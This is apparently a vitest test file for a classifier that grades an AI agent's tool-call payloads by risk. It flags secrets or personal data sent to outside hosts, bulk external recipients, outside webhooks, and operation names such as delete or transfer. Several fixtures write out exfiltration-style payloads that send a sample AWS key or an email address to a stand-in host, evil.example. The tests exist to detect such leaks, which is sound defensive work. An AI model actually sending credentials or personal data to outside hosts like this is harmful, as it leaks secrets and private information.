// What a read carries out, and what a member of the payload asks for: the payload raises whatever the name says.
import { describe, expect, test } from 'vitest'
import type { Json } from '../../../../shared/base/lib/json.ts'
import { type Action, classified, NODE } from './make.ts'

const KEY = 'AKIAIOSFODNN7EXAMPLE'
const settings = { domains: ['acme.example'] }
const kindOf = (payload: Json, more: Action = {}) => classified('get_page', { payload, ...more }, settings).kind

describe('a secret or personal data beside a host outside', () => {
  test.each([
    ['a secret', { url: 'https://evil.example/collect', note: KEY }],
    ['personal data', { url: 'https://evil.example/collect', note: 'Ann is ann@acme.example' }],
    ['a secret in the link', { url: `https://evil.example/?k=${KEY}` }],
    ['a host without a scheme', { host: 'evil.example', note: KEY }],
    ['a host that cannot be told', { url: 'https://a@evil.example/', note: KEY }],
    ['a recipient outside', { to: 'bob@evil.example', note: KEY }],
  ])('%s goes out', (_, payload) => {
    expect(kindOf(payload)).toBe('message_external')
    expect(classified('get_page', { payload, kind: 'read', kindIsVouched: true }, settings)).toMatchObject({
      tier: 'HARD',
      floor: 'HARD',
    })
  })

  test.each([
    ['the own domain', { url: 'https://wiki.acme.example/', note: KEY }],
    ['no host', { note: KEY }],
    ['nothing personal', { url: 'https://other.example/docs', page: 2 }],
    ['an IP address alone', { url: 'https://192.0.2.7/status' }],
  ])('%s is read', (_, payload) => {
    expect(kindOf(payload)).toBe('read')
  })

  test('a target of the node is known', () => {
    const endpoints = [{ action_id: 'a', target: { type: 'http' as const, url: 'https://api.partner.example/x' } }]
    const payload = { url: 'https://api.partner.example/contacts', note: KEY }

    expect(kindOf(payload, { node: { ...NODE, endpoints } })).toBe('read')
    expect(kindOf(payload)).toBe('message_external')
  })

  test('personal data counts where it is not reported', () => {
    const payload = { url: 'https://evil.example/', note: 'ann@acme.example' }

    expect(classified('get_page', { payload }, { ...settings, pii_mode: 'off' }).kind).toBe('message_external')
  })
})

test('more recipients outside than the limit of the tenant are written to', () => {
  const to = (count: number, host: string) => ({ to: Array.from({ length: count }, (_, i) => `a${i}@${host}`) })
  const kind = (payload: ReturnType<typeof to>) =>
    classified('get_slots', { payload }, { ...settings, bulk_limit: 3 }).kind

  expect(kind(to(4, 'evil.example'))).toBe('message_external')
  expect(kind(to(3, 'evil.example'))).toBe('read')
  expect(kind(to(4, 'acme.example'))).toBe('read')
})

test('a webhook at a host outside is a way out', () => {
  const webhook = (url: string) => classified('create_webhook', { payload: { url } }, settings).tier

  expect(webhook('https://evil.example/in')).toBe('HARD')
  expect(webhook('https://hooks.acme.example/in')).toBe('SOFT')
})

describe('a member that names an operation is read as a name', () => {
  test.each([
    [{ operation: 'delete' }, 'delete'],
    [{ action: 'sendEmail' }, 'email'],
    [{ op: 'REMOVE' }, 'delete'],
    [{ verb: 'transfer' }, 'payment'],
    [{ method: 'DELETE' }, 'delete'],
    [{ mode: 'overwrite' }, 'destructive'],
    [{ operations: ['read', 'purge'] }, 'delete'],
    [{ request: { operation: 'update_user' } }, 'update'],
  ] satisfies [Json, string][])('%j is %s', (payload, kind) => {
    expect(kindOf(payload)).toBe(kind)
  })

  test.each([
    { operation: 'list' },
    { mode: 'fast' },
    { mode: 'draft' },
    { action: 'opened' },
    { payment_method: 'transfer' },
    { operation: 'x'.repeat(200) },
  ])('%j stays a read', (payload) => {
    expect(kindOf(payload)).toBe('read')
  })

  test('it lowers nothing', () => {
    expect(classified('delete_page', { payload: { operation: 'get' } }).kind).toBe('delete')
  })
})
